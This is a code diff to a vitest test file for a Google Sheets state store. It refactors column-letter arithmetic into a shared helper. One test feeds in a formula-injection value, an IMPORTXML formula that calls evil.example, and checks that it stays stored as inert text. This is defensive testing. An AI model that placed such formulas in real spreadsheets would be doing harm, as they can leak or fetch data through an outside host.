@@ -2,7 +2,7 @@
 // script-owned cells change, text stays text, one call per write, nothing when nothing changed.
 
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { LOG_TAB, PROBLEMS_TAB } from '../../sheets-schema/schema.js';
+import { columnLetter, LOG_TAB, PROBLEMS_TAB } from '../../sheets-schema/schema.js';
 import type { LogEntry, WriteBack } from '../../src/delivery/ports.js';
 import { parseLogRows, sheetsStateStore } from '../../src/google/sheets-state.js';
 import { BUNDLED_WORKBOOK } from '../../src/paths.js';
@@ -41,12 +41,12 @@ function snapshot(): Map<string, string> {
   for (const sheet of spreadsheetOf(standin, ID).sheets) {
     valuesOf(sheet).forEach((row, r) =>
       row.forEach((v, c) => {
-        if (v !== null) out.set(`${sheet.properties.title}!${String.fromCharCode(65 + c)}${r + 1}`, JSON.stringify(v));
+        if (v !== null) out.set(`${sheet.properties.title}!${columnLetter(c)}${r + 1}`, JSON.stringify(v));
       }),
     );
     sheet.rows.forEach((row, r) =>
       row?.forEach((cell, c) => {
-        if (cell?.note || cell?.format || cell?.dataValidation) out.set(`${sheet.properties.title}!${String.fromCharCode(65 + c)}${r + 1}#meta`, JSON.stringify([cell.note, cell.format, cell.dataValidation]));
+        if (cell?.note || cell?.format || cell?.dataValidation) out.set(`${sheet.properties.title}!${columnLetter(c)}${r + 1}#meta`, JSON.stringify([cell.note, cell.format, cell.dataValidation]));
       }),
     );
   }
@@ -120,7 +120,7 @@ describe('SheetsStateStore.writeBack', () => {
     const { store } = await read();
     await store.appendLog([entry({ detail: '=IMPORTXML("https://evil.example/","//a")' })]);
     const log = sheetOf(standin, ID, 'Udsendelser');
-    const detail = String.fromCharCode(65 + LOG_TAB.columns.findIndex((c) => c.key === 'detail'));
+    const detail = columnLetter(LOG_TAB.columns.findIndex((c) => c.key === 'detail'));
     expect(cellOf(log, `${detail}2`)).toEqual({ value: '=IMPORTXML("https://evil.example/","//a")' });
     await store.writeBack({ meetings: new Map(), problems: [{ tab: 'Punkter', cell: 'D3', message: '=1+1 er ikke en titel' }] });
     expect(cellOf(sheetOf(standin, ID, 'Validering'), 'C2')?.value).toBe('=1+1 er ikke en titel');
@@ -186,7 +186,7 @@ describe('SheetsStateStore.writeBack', () => {
     expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.get': 1, 'sheets.spreadsheets.batchUpdate': 1 });
     const log = sheetOf(standin, ID, 'Udsendelser');
     expect(log.properties.gridProperties.rowCount).toBeGreaterThanOrEqual(5);
-    expect(cellOf(log, `${String.fromCharCode(65 + LOG_TAB.columns.findIndex((c) => c.key === 'fileId'))}5`)?.value).toBe('d');
+    expect(cellOf(log, `${columnLetter(LOG_TAB.columns.findIndex((c) => c.key === 'fileId'))}5`)?.value).toBe('d');
   });
 
   it('retries a failed write (500, then 429 with Retry-After) and counts every attempt', async () => {
